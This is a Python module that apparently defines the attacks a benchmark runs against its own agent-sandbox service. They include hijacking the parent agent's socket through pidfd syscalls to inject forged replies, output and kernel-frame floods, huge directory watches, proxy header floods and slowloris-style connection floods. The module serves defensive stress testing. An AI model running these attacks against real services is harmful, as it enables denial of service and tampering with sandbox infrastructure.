"""Attacks of a hostile session, or of a stranger, on the service: what `bench_attacks` measures.

An attack is an async function with the decorator `attack`. It gets a `Stage`, attacks for about
`Stage.seconds`, and returns. It may raise nothing: what the service refuses is its right.
"""

from __future__ import annotations

import asyncio
import contextlib
import shlex
import sys
from pathlib import Path
from typing import TYPE_CHECKING

import attrs

if TYPE_CHECKING:
    from collections.abc import Awaitable, Callable

    from agentbay_async import AsyncAgentBay, AsyncSession
    from support.local import LocalChild

    Attack = Callable[["Stage"], Awaitable[None]]

ATTACKS: dict[str, Attack] = {}

# Where commands start. They name files relative to it: without namespaces, the paths of a session
# are those of the API alone.
_HOME = "/home/wuying"


@attrs.frozen
class Stage:
    """What an attack has at hand.

    Attributes:
        service: The service; its endpoint is all that a stranger knows.
        bay: A client of the owner of the hostile session.
        session: The hostile session.
        seconds: How long to attack.
    """

    service: LocalChild
    bay: AsyncAgentBay
    session: AsyncSession
    seconds: float

    async def run_code(self, code: str) -> None:
        """Run Python in the kernel of the hostile session, for as long as the attack lasts."""
        await self.session.code.run_code(code, timeout_s=self.seconds)

    async def run_command(self, command: str) -> None:
        """Run a command in the hostile session, for as long as the attack lasts."""
        await self.session.command.run(command, timeout=self.seconds)


def attack(function: Attack) -> Attack:
    """Register an attack under the name of its function."""
    ATTACKS[function.__name__] = function
    return function


@attack
async def nothing(stage: Stage) -> None:
    """Wait: the figures of this machine without an attack."""
    await asyncio.sleep(stage.seconds)


_TAKE_SOCKET = """
import array, ctypes, json, os, socket, stat
libc = ctypes.CDLL(None, use_errno=True)
agent = libc.syscall(434, os.getppid(), 0)
found = [libc.syscall(438, agent, fd, 0) for fd in range(256)]
lies = [fd for fd in found if fd >= 0 and stat.S_ISSOCK(os.fstat(fd).st_mode)]
packet = b'{"id": 99, "x": [' + b",".join([b"[]"] * (20 << 20)) + b"]}" if lies else b""
for fd in lies:
    with socket.socket(fileno=fd) as channel:
        for _ in range(3):
            file = os.memfd_create("x")
            os.truncate(file, len(packet)), os.pwrite(file, packet, 0)
            rights = [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [file]))]
            channel.sendmsg([json.dumps({"large": len(packet)}).encode()], rights)
"""


@attack
async def lies_on_the_socket_of_the_agent(stage: Stage) -> None:
    """Take the agent's socket and send large answers to requests that nobody made."""
    await stage.session.file_system.write_file(f"{_HOME}/lie.py", _TAKE_SOCKET)
    await stage.run_command("exec python3 lie.py")


@attack
async def output_of_a_command(stage: Stage) -> None:
    """Write as fast as possible to both streams."""
    await stage.run_command("yes | head -c 20G & yes >&2")


@attack
async def output_of_a_terminal(stage: Stage) -> None:
    """Write as fast as possible to a terminal that somebody reads."""
    terminal = await stage.session.pty.create(on_data=lambda _: None)
    try:
        await terminal.send_input("yes\n")
        await asyncio.sleep(stage.seconds)
    finally:
        await terminal.kill()


@attack
async def output_of_code(stage: Stage) -> None:
    """Write as fast as possible to the standard output of a kernel."""
    await stage.run_code("import os\nwhile True: os.write(1, bytes(65536))")


_KERNEL_FRAMES = """
import json, os, socket
control = socket.socket(fileno=os.dup(3))
def frame(head, content=b""):
    data = json.dumps(head).encode()
    data = len(data).to_bytes(4, "big") + data + content
    return len(data).to_bytes(4, "big") + data
def nested(count):
    content = b"[" + b",".join([b"[]"] * count) + b"]"
    return frame({"main": True, "result": {"x": ["json", len(content)]}}, content)
"""


@attack
async def nested_frame_of_a_kernel(stage: Stage) -> None:
    """Send the largest frame of a kernel, made of empty lists."""
    await stage.run_code(f"{_KERNEL_FRAMES}\ncontrol.sendall(nested(5 << 20))")


@attack
async def nested_frames_of_a_kernel(stage: Stage) -> None:
    """Send the worst results that the service accepts, and do not wait for it to take them."""
    await stage.run_code(
        f"{_KERNEL_FRAMES}\nworst = nested(80_000)\nwhile True: control.sendall(worst)"
    )


@attack
async def small_frames_of_a_kernel(stage: Stage) -> None:
    """Send valid frames without an end, and do not wait for the service to take them."""
    flood = 'flood = frame({"error": [1, 0, 0]}, b"x") * 1000\nwhile True: control.sendall(flood)'
    await stage.run_code(f"{_KERNEL_FRAMES}\n{flood}")


@attack
async def large_displays(stage: Stage) -> None:
    """Display texts of ten megabytes."""
    show = "from IPython.display import display"
    text = "display({'text/html': '<' * 10_000_000}, raw=True)"
    await stage.run_code(f"{show}\nfor _ in range(50): {text}")


async def _fill(stage: Stage, count: int) -> None:
    filled = await stage.session.command.run(
        f"mkdir -p many && cd many && seq {count} | xargs touch", timeout=60
    )
    filled.unwrap()


@attack
async def listing_of_a_full_directory(stage: Stage) -> None:
    """List a directory of 30,000 files, more than a listing may have."""
    await _fill(stage, 30_000)
    await stage.session.file_system.list_directory(f"{_HOME}/many")


@attack
async def watch_of_a_full_directory(stage: Stage) -> None:
    """Watch a directory of 40,000 files, nearly the most, in which everything changes."""
    await _fill(stage, 40_000)
    with contextlib.suppress(asyncio.TimeoutError):
        await asyncio.wait_for(_watch(stage), stage.seconds)


async def _watch(stage: Stage) -> None:
    change = "while :; do find many -type f -exec touch {} +; done"
    changing = asyncio.create_task(stage.run_command(change))
    try:
        async for _ in stage.session.file_system.watch(f"{_HOME}/many"):
            pass
    finally:
        changing.cancel()


_FLOOD_PROXY = """
import contextlib, os, socket, sys, threading, urllib.parse
proxy = urllib.parse.urlsplit(os.environ["https_proxy"])
head = sys.argv[1].encode().decode("unicode_escape").encode()
def ask():
    while True:
        with contextlib.suppress(OSError):
            with socket.create_connection((proxy.hostname, proxy.port)) as connection:
                connection.sendall(head)
                while connection.recv(65536): pass
for _ in range(64): threading.Thread(target=ask).start()
"""


async def _flood_proxy(stage: Stage, head: str) -> None:
    program = shlex.join(["python3", "-c", _FLOOD_PROXY, head])
    # Levels without the proxy have no such variable.
    await stage.run_command(f'[ -z "$https_proxy" ] || {program}')


@attack
async def refused_requests_to_the_proxy(stage: Stage) -> None:
    """Ask the proxy for a forbidden host on all its connections, with long heads."""
    head = f"CONNECT forbidden.invalid:443 HTTP/1.1\\r\\nX: {'x' * 15_000}\\r\\n\\r\\n"
    await _flood_proxy(stage, head)


@attack
async def endless_heads_to_the_proxy(stage: Stage) -> None:
    """Send heads that are too long, in short lines."""
    await _flood_proxy(stage, "GET / HTTP/1.1\\r\\n" + "a:b\\r\\n" * 10_000)


async def _flood(stage: Stage, name: str) -> None:
    """Run a flood in a process of its own: it must not slow down the clients of this one."""
    arguments = ["-m", "support.stranger_floods", name, stage.service.endpoint, str(stage.seconds)]
    directory = Path(__file__).parent.parent
    flood = await asyncio.create_subprocess_exec(sys.executable, *arguments, cwd=directory)
    if await flood.wait():
        raise RuntimeError(f"the flood {name!r} failed")


@attack
async def idle_connections_of_a_stranger(stage: Stage) -> None:
    """Hold 3,000 connections without a request."""
    await _flood(stage, "idle_connections")


@attack
async def endless_heads_of_a_stranger(stage: Stage) -> None:
    """Send heads of requests that never end."""
    await _flood(stage, "endless_heads")


@attack
async def unfinished_forms_of_a_stranger(stage: Stage) -> None:
    """Send the beginning of 500 large forms without a key."""
    await _flood(stage, "unfinished_forms")


@attack
async def large_forms_of_a_stranger(stage: Stage) -> None:
    """Send forms of 64 MB without a key."""
    await _flood(stage, "large_forms")
